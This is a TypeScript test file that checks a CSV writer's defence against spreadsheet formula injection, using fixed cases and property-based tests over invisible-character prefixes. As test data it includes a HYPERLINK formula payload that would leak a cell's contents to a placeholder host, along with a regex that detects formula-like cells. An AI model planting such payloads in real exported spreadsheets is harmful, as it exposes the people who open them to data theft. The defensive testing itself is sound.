import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import Papa from 'papaparse';
import { protectCell, toCsv } from '../../src/io/write';
import { formulaLike, unprotectCell } from '../../src/io/cells';
import { readCsv } from '../../src/io/csv/parse';

/** What a spreadsheet may skip before a formula (issue 7.9), and the formula characters. */
const PREFIXES = [' ', '  ', '\u00A0', '\u3000', '\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF', '\t', '\r', '\n', '\r\n', '\u202E', ' \u200B\t'];
const TRIGGERS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
/** The reader's side of the protocol (csv/parse): one ' removed, else trimmed. */
const read = (cell: string) => (cell.startsWith("'") ? unprotectCell(cell) : cell.trim());
const payload = 'HYPERLINK("http://x/?"&A1,"点击")';
/** A test name that shows the invisible characters. */
const shown = (s: string) => s.replace(/[^\x21-\x7e]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);

describe('protectCell', () => {
  it.each([
    ['=30%', "'=30%"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['-3.5', "'-3.5"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['=HYPERLINK("http://x","y")', `'=HYPERLINK("http://x","y")`],
    ['\t=1', "'\t=1"],
    ['\t', "'\t"],
    ['≥80%', '≥80%'],
    ['序时进度', '序时进度'],
    ['100%', '100%'],
    ['a=1', 'a=1'],
    ['', ''],
  ])('%j → %j', (value, out) => expect(protectCell(value)).toBe(out));

  // Each failed before: only = + - @ tab CR in the very first position were protected.
  const cases = PREFIXES.flatMap((p) => TRIGGERS.map((t) => p + t)).concat(TRIGGERS.slice(4)).map((start) => [shown(start), start + payload]);
  it.each(cases)('protects %s…: a leading \' and a quoted cell', (_, value) => {
    expect(protectCell(value)).toBe(`'${value}`);
    expect(toCsv([[value]])).toBe(`\uFEFF"'${value.replace(/"/g, '""')}"\r\n`);
    expect(read(protectCell(value))).toBe(value);
  });

  it('protects a text the reader would otherwise change: a leading \' or outer whitespace', () => {
    expect(protectCell("'abc")).toBe("''abc");
    expect(protectCell("'-5")).toBe("''-5");
    expect(protectCell('  省政务办')).toBe("'  省政务办");
    expect(protectCell('省政务办\u3000')).toBe("'省政务办\u3000");
    expect(protectCell('省政务\u200B办')).toBe('省政务\u200B办');
  });

  it('writes numbers as numbers: a negative amount is data, not a formula', () => {
    expect(toCsv([[-3.5, '-3.5', 0, Number.NaN]])).toBe('\uFEFF-3.5,"\'-3.5",0,\r\n');
  });
});

/** Strings over the characters that matter here, so that fast-check hits the prefixes often. */
const tricky = fc.string({ unit: fc.constantFrom(...PREFIXES, ...TRIGGERS, "'", '"', ',', ';', 'a', '1', '.', '%', '项', '﹦', '\u00AD') });

describe('the protection (fast-check)', () => {
  it('leaves no text cell a spreadsheet could run as a formula', () => {
    // Independent of src/io/cells: strip what a spreadsheet may skip, look at the first character.
    const formula = /^[\s\u200B-\u200F\u2060\uFEFF\u202A-\u202E]*[=+\-@＝＋－＠﹦]|^[\t\r]/;
    fc.assert(fc.property(fc.array(tricky, { minLength: 1, maxLength: 4 }), (row) => {
      const cells = Papa.parse<string[]>(toCsv([row]).slice(1), { delimiter: ',' }).data[0];
      for (const c of cells) expect(formula.test(c)).toBe(false);
      for (const c of cells) if (formulaLike(c)) expect.unreachable(c);
    }), { numRuns: 3000 });
  });

  it('is undone exactly by the reader\'s rule', () => {
    fc.assert(fc.property(fc.oneof(fc.string(), tricky, fc.string({ unit: 'binary' })), (v) => {
      expect(read(protectCell(v))).toBe(v);
    }), { numRuns: 3000 });
  });
});

describe('toCsv', () => {
  it('writes a BOM, CRLF, quotes where needed and protects text cells but not numbers', () => {
    const csv = toCsv([
      ['三级指标', '半年（程）指标值', '累计执行数', '备注'],
      ['预算执行率', '=30%', -2.5, '支付进度略慢,7月补齐'],
      ['渗透测试', '≥2轮', null, '说"两轮"'],
    ]);
    expect(csv).toBe(
      '\uFEFF三级指标,半年（程）指标值,累计执行数,备注\r\n' +
      "预算执行率,\"'=30%\",-2.5,\"支付进度略慢,7月补齐\"\r\n" +
      '渗透测试,≥2轮,,"说""两轮"""\r\n',
    );
  });

  it('quotes a cell holding ; (the list separator Excel splits on in some locales)', () => {
    expect(toCsv([['a;=1+1', 'b']])).toBe('\uFEFF"a;=1+1",b\r\n');
  });

  it('reads back a cell that already starts with apostrophes', () => {
    const rows = [["'-", "''=1"], ['=30%', "'abc"]];
    const back = readCsv(toCsv([['备注', '偏差原因'], ...rows]).slice(1), 'x.csv');
    expect(back.rows.map((r) => r.values)).toEqual([{ note: "'-", reason: "''=1" }, { note: '=30%', reason: "'abc" }]);
  });

  it('reads back to exactly the same cells through the CSV reader (fast-check)', () => {
    const cell = fc.oneof(fc.string(), tricky, fc.constantFrom('=30%', '+1', '-x', '@a', '≥80%', '序时进度', '"', ',', '\r\n', ' =1', '\u3000项目'));
    fc.assert(fc.property(fc.array(fc.tuple(cell.filter((s) => s !== ''), cell), { minLength: 1, maxLength: 5 }), (rows) => {
      const back = readCsv(toCsv([['备注', '偏差原因'], ...rows]).slice(1), 'x.csv');
      expect(back.problems).toEqual([]);
      expect(back.rows.map((r) => r.values)).toEqual(rows.map(([note, reason]) => ({ note, reason })));
    }), { numRuns: 2000 });
  });
});
